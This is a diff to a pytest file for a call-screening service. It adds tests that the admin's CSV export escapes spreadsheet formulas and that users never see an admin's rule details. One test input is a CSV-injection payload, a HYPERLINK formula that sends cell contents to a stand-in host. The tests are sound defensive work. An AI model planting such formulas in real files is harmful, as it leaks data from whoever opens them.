@@ -3,8 +3,11 @@ and messages, keyset pages, and a user who can never read or change another exte
 
 from __future__ import annotations
 
+import csv
+import re
 from collections.abc import Iterator
 from datetime import UTC, datetime
+from pathlib import Path
 
 import pytest
 from sqlalchemy import select
@@ -13,9 +16,11 @@ from starlette.testclient import TestClient
 
 from screening.config import Config
 from screening.service.accounts import Accounts
+from screening.store import calllog
 from screening.store.engine import make_engine
 from screening.store.models import AuditEntry
 from screening.web.app import create_app
+from tests.cli_helpers import run
 from tests.db.test_web import log_calls
 
 PASSWORD = "correct horse battery"
@@ -232,3 +237,87 @@ def test_numbers_are_ascii_digits_within_their_bounds(
     assert status in (400, 404)
     status, _ = admin.post(f"/calls/{raw}/spam", {})
     assert status in (400, 404)
+
+
+def test_the_admins_export_is_safe_to_open_in_a_spreadsheet(
+    apis: tuple[Api, Api, TestClient], database_url: str, tmp_path: Path
+) -> None:
+    # A user's reason went into the admin's export as it was: a spreadsheet runs
+    # "=HYPERLINK(...)" or "@SUM(...)" as a formula (OWASP, CSV injection).
+    admin, user, _ = apis
+    reasons = ['=HYPERLINK("http://x.example/?"&A1,"click")', "@SUM(1+1)", "+1+1", "-2", "'=x"]
+    for n, reason in enumerate(reasons):
+        status, _ = user.post("/lists/block", {"number": f"+1555010{n:04d}", "reason": reason})
+        assert status == 201
+    env = {"SCREENING_DATABASE_URL": database_url}
+    out = tmp_path / "rules.csv"
+    assert run("export", str(out), env=env).code == 0
+    cells = {row["number"]: row["reason"] for row in csv.DictReader(out.open())}
+    assert cells == {f"+1555010{n:04d}": f"'{r}" for n, r in enumerate(reasons)}
+    assert all(not c.startswith(("=", "+", "-", "@")) for c in cells.values())
+    # Our own export reads back unchanged.
+    _, page = admin.get("/lists/block", extension="201")
+    for e in page["entries"]:  # type: ignore[index]
+        assert admin.delete(f"/lists/block/{e['id']}")[0] == 200
+    assert admin.get("/lists/block", extension="201")[1]["entries"] == []  # type: ignore[index]
+    assert run("import", str(out), env=env).code == 0
+    status, page = admin.get("/lists/block", extension="201")
+    got = {e["number"]: e["reason"] for e in page["entries"]}  # type: ignore[index]
+    assert got == {f"+1555010{n:04d}": r for n, r in enumerate(reasons)}
+
+
+def test_a_user_learns_the_kind_of_rule_never_an_admins_rule_or_its_note(
+    apis: tuple[Api, Api, TestClient], database_url: str
+) -> None:
+    # /check showed the user of 201 the global entry that decided, with its id, number and
+    # the admin's reason. A user learns which kind of rule decided; the rule is the admin's.
+    admin, user, client = apis
+    status, entry = admin.post("/lists/block", {"number": "+15550990007", "reason": "sued us"})
+    assert status == 201
+    status, seen = user.get("/check", caller="+15550990007")
+    assert status == 200
+    assert (seen["action"], seen["sip_code"], seen["rule_kind"]) == ("reject", 607, "block")  # type: ignore[index]
+    assert (seen["rule_id"], seen["reason"]) == (None, "a block entry")  # type: ignore[index]
+    assert "sued" not in str(seen) and "990007 (" not in str(seen)
+    status, full = admin.get("/check", caller="+15550990007", extension="201")
+    assert full["rule_id"] == entry["id"] and "sued us" in full["reason"]  # type: ignore[index]
+    # The same for the calls to 201 as the call log keeps them.
+    engine = make_engine(database_url)
+    with Session(engine) as s, s.begin():
+        calllog.write_call_log(
+            s,
+            [
+                calllog.CallRecord(
+                    datetime.now(UTC),
+                    "c1",
+                    "+15550990007",
+                    "+15550990007",
+                    "201",
+                    "rejected",
+                    607,
+                    "block",
+                    entry["id"],  # type: ignore[index]
+                    f"block #{entry['id']} global +15550990007 (sued us)",  # type: ignore[index]
+                    900,
+                )
+            ],
+        )
+    engine.dispose()
+    _, calls = user.get("/calls")
+    (call,) = calls["calls"]  # type: ignore[index]
+    assert (call["reason"], call["rule_id"], call["rule_kind"]) == ("a block entry", None, "block")
+    _, calls = admin.get("/calls", extension="201")
+    assert "sued us" in calls["calls"][0]["reason"]  # type: ignore[index]
+    # And on the user's page in the console.
+    assert client.post(
+        "/login", data={"name": "bob", "password": PASSWORD, "csrf": _csrf(client)}
+    ).status_code in (200, 303)
+    page = client.get("/ext/201").text
+    assert "a block entry" in page and "sued us" not in page
+
+
+def _csrf(client: TestClient) -> str:
+    page = client.get("/login").text
+    m = re.search(r'name="csrf" value="([^"]+)"', page)
+    assert m is not None
+    return m.group(1)
